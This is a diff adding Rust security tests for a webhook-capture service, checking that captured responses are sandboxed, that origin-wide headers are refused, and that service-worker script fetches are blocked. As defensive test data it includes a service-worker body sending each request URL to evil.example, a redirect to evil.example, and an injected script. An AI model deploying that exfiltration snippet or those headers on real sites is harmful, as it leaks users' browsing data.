@@ -1,0 +1,276 @@
+//! Issue 11: a capture response can never act on the inspector's origin, and no one client can
+//! starve the rest. (The browser-side half of the first point is in `ui_browser.rs`.)
+
+use std::process::Command;
+
+use serde_json::json;
+
+use crate::util::{Response, Server};
+
+fn assert_sealed(res: &Response, what: &str) {
+    assert_eq!(
+        res.header("content-security-policy"),
+        Some("sandbox"),
+        "{what}: {:?}",
+        res.headers
+    );
+    assert_eq!(
+        res.header("x-content-type-options"),
+        Some("nosniff"),
+        "{what}"
+    );
+}
+
+#[test]
+fn every_capture_response_is_sandboxed_and_no_spec_can_change_that() {
+    let s = Server::start(&["--max-body-bytes", "16"]);
+    let plain = s.create_bin();
+    assert_sealed(
+        &s.request("POST", &format!("/r/{plain}"), &[], b"x"),
+        "200 ok",
+    );
+    assert_sealed(
+        &s.request("POST", &format!("/r/{plain}"), &[], &[b'x'; 32]),
+        "413",
+    );
+    assert_sealed(&s.get("/r/0000000000000000000a"), "unknown bin");
+    let nav = s.request(
+        "GET",
+        &format!("/r/{plain}"),
+        &[("Sec-Fetch-Mode", "navigate"), ("Accept", "text/html")],
+        b"",
+    );
+    assert_eq!(nav.status, 303);
+    assert_sealed(&nav, "navigation redirect");
+
+    // A custom HTML page with a script: served as the spec says, but in a sandbox.
+    let html = s.create_bin_with(
+        &json!({"response": {"headers": [["Content-Type", "text/html"]],
+                             "body": "<script>document.title='pwned'</script>"}})
+        .to_string(),
+    )["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let res = s.get(&format!("/r/{html}/page"));
+    assert_eq!(res.status, 200);
+    assert_eq!(res.header("content-type"), Some("text/html"));
+    assert_sealed(&res, "custom response");
+
+    // No spec can carry a policy of its own, or anything else that acts on the whole origin.
+    for (name, value) in [
+        ("Content-Security-Policy", "script-src *"),
+        ("content-security-policy-report-only", "default-src *"),
+        ("Service-Worker-Allowed", "/"),
+        ("Clear-Site-Data", "\"*\""),
+        ("Origin-Agent-Cluster", "?0"),
+        ("Strict-Transport-Security", "max-age=0"),
+        ("Set-Cookie", "session=x; Path=/"),
+        ("Location", "https://evil.example/"),
+    ] {
+        let spec = json!({"headers": [[name, value]]}).to_string();
+        let res = s.request(
+            "PUT",
+            &format!("/api/bins/{plain}/response"),
+            &[("Content-Type", "application/json")],
+            spec.as_bytes(),
+        );
+        res.assert_error(422, "invalid_response");
+        assert!(
+            res.json()["error"]["message"].as_str().unwrap().contains(
+                if name == "Set-Cookie" || name == "Location" {
+                    name
+                } else {
+                    "headers[0][0]"
+                }
+            ),
+            "{name}: {}",
+            res.text()
+        );
+        let res = s.post_json(
+            "/api/bins",
+            &json!({"response": {"headers": [[name, value]]}}).to_string(),
+        );
+        res.assert_error(422, "invalid_response");
+    }
+    // Cookies and redirects inside the bin stay possible, from creation on.
+    let created = s.create_bin_with(r#"{"response": {"status": 302}}"#);
+    let bin = created["id"].as_str().unwrap();
+    let spec = json!({"status": 302, "headers": [
+        ["Set-Cookie", format!("seen=1; Path=/r/{bin}; HttpOnly")],
+        ["Location", format!("/r/{bin}/next")],
+    ]})
+    .to_string();
+    let res = s.request(
+        "PUT",
+        &format!("/api/bins/{bin}/response"),
+        &[("Content-Type", "application/json")],
+        spec.as_bytes(),
+    );
+    assert_eq!(res.status, 200, "{}", res.text());
+    let res = s.get(&format!("/r/{bin}"));
+    assert_eq!(res.status, 302);
+    assert_eq!(
+        res.header("location"),
+        Some(format!("/r/{bin}/next").as_str())
+    );
+    assert_sealed(&res, "redirect inside the bin");
+}
+
+#[test]
+fn service_worker_script_fetches_are_refused_and_not_recorded() {
+    let s = Server::start(&[]);
+    let bin = s.create_bin_with(
+        &json!({"response": {"headers": [["Content-Type", "text/javascript"]],
+                             "body": "self.onfetch = e => fetch('https://evil.example/?' + e.request.url)"}})
+        .to_string(),
+    )["id"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    for headers in [
+        &[
+            ("Service-Worker", "script"),
+            ("Sec-Fetch-Dest", "serviceworker"),
+        ][..],
+        &[
+            ("Sec-Fetch-Dest", "script"),
+            ("Sec-Fetch-Site", "same-origin"),
+        ][..],
+    ] {
+        let res = s.request("GET", &format!("/r/{bin}/sw.js"), headers, b"");
+        res.assert_error(403, "worker_script_refused");
+        assert_eq!(res.header("x-request-id"), None);
+        assert_sealed(&res, "refusal");
+    }
+    assert_eq!(
+        s.get(&format!("/api/bins/{bin}")).json()["request_count"],
+        0
+    );
+    // The same script as a plain capture (a webhook, or another site's <script>) is recorded.
+    let res = s.request(
+        "GET",
+        &format!("/r/{bin}/sw.js"),
+        &[
+            ("Sec-Fetch-Dest", "script"),
+            ("Sec-Fetch-Site", "cross-site"),
+        ],
+        b"",
+    );
+    assert_eq!(res.status, 200);
+    assert_eq!(
+        s.get(&format!("/api/bins/{bin}")).json()["request_count"],
+        1
+    );
+}
+
+#[test]
+fn every_response_says_nosniff() {
+    let s = Server::start(&[]);
+    let bin = s.create_bin();
+    let id = s.capture(&bin, b"x");
+    let mut stream = s.connect();
+    std::io::Write::write_all(
+        &mut stream,
+        format!("GET /api/bins/{bin}/stream HTTP/1.1\r\nHost: h\r\n\r\n").as_bytes(),
+    )
+    .unwrap();
+    let stream_head =
+        crate::util::read_head(&mut std::io::BufReader::new(stream)).expect("stream head");
+    let mut answers = vec![
+        ("stream", stream_head),
+        (
+            "curl",
+            s.get(&format!("/api/bins/{bin}/requests/{id}/curl")),
+        ),
+        ("healthz", s.get("/healthz")),
+        ("metrics", s.get("/metrics")),
+        ("static", s.get("/static/app.css")),
+        ("page", s.get(&format!("/bins/{bin}"))),
+        ("page 404", s.get("/nowhere")),
+        ("api 404", s.get("/api/nowhere")),
+        ("api 405", s.request("PATCH", "/api/bins", &[], b"")),
+        (
+            "export",
+            s.get(&format!("/api/bins/{bin}/export?format=har")),
+        ),
+        (
+            "capture",
+            s.request("POST", &format!("/r/{bin}"), &[], b"x"),
+        ),
+        (
+            "no content",
+            s.delete(&format!("/api/bins/{bin}/requests/{id}")),
+        ),
+    ];
+    answers.push(("head", s.request("HEAD", "/healthz", &[], b"")));
+    for (what, res) in answers {
+        assert_eq!(
+            res.header("x-content-type-options"),
+            Some("nosniff"),
+            "{what}: {:?}",
+            res.headers
+        );
+    }
+}
+
+#[test]
+fn a_stored_response_with_a_header_now_refused_keeps_working_without_it() {
+    if !crate::backup::sqlite3_installed() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("h.db");
+    let (bin, broken) = {
+        let mut s = Server::start_on(&db, &[]);
+        let bin = s.create_bin_with(
+            r#"{"response": {"status": 201, "headers": [["X-Kept", "yes"]], "body": "made"}}"#,
+        )["id"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+        let broken = s.create_bin_with(r#"{"response": {"status": 202}}"#)["id"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+        assert!(s.signal("TERM").success());
+        (bin, broken)
+    };
+    // As an older hookbin would have stored them: origin-wide headers, and a damaged spec.
+    let old = json!({"status": 201, "headers": [
+        ["Service-Worker-Allowed", "/"], ["X-Kept", "yes"], ["Set-Cookie", "a=1; Path=/"],
+        ["Content-Security-Policy", "script-src *"]],
+        "body": "made", "delay_ms": 0})
+    .to_string();
+    let sql = format!(
+        "UPDATE bins SET response = '{old}' WHERE id = '{bin}';
+         UPDATE bins SET response = '{{\"status\": 1' WHERE id = '{broken}';"
+    );
+    let ok = Command::new("sqlite3")
+        .arg(&db)
+        .arg(sql)
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok);
+
+    let s = Server::start_on(&db, &[]);
+    let res = s.request("POST", &format!("/r/{bin}"), &[], b"x");
+    assert_eq!((res.status, res.text().as_str()), (201, "made"));
+    assert_eq!(res.header("x-kept"), Some("yes"));
+    assert_eq!(res.header("service-worker-allowed"), None);
+    assert_eq!(res.header("set-cookie"), None);
+    assert_sealed(&res, "old spec");
+    // The API shows what is served.
+    let shown = s.get(&format!("/api/bins/{bin}")).json();
+    assert_eq!(shown["response"]["headers"], json!([["X-Kept", "yes"]]));
+    // A spec that cannot be read at all is ignored: the bin answers 200 ok.
+    let res = s.request("POST", &format!("/r/{broken}"), &[], b"x");
+    assert_eq!((res.status, res.text().as_str()), (200, "ok"));
+    let log = s.log();
+    assert!(
+        log.contains("Service-Worker-Allowed") && log.contains("no longer sent"),
+        "{log}"
+    );
+    assert!(log.contains("cannot be read"), "{log}");
+}
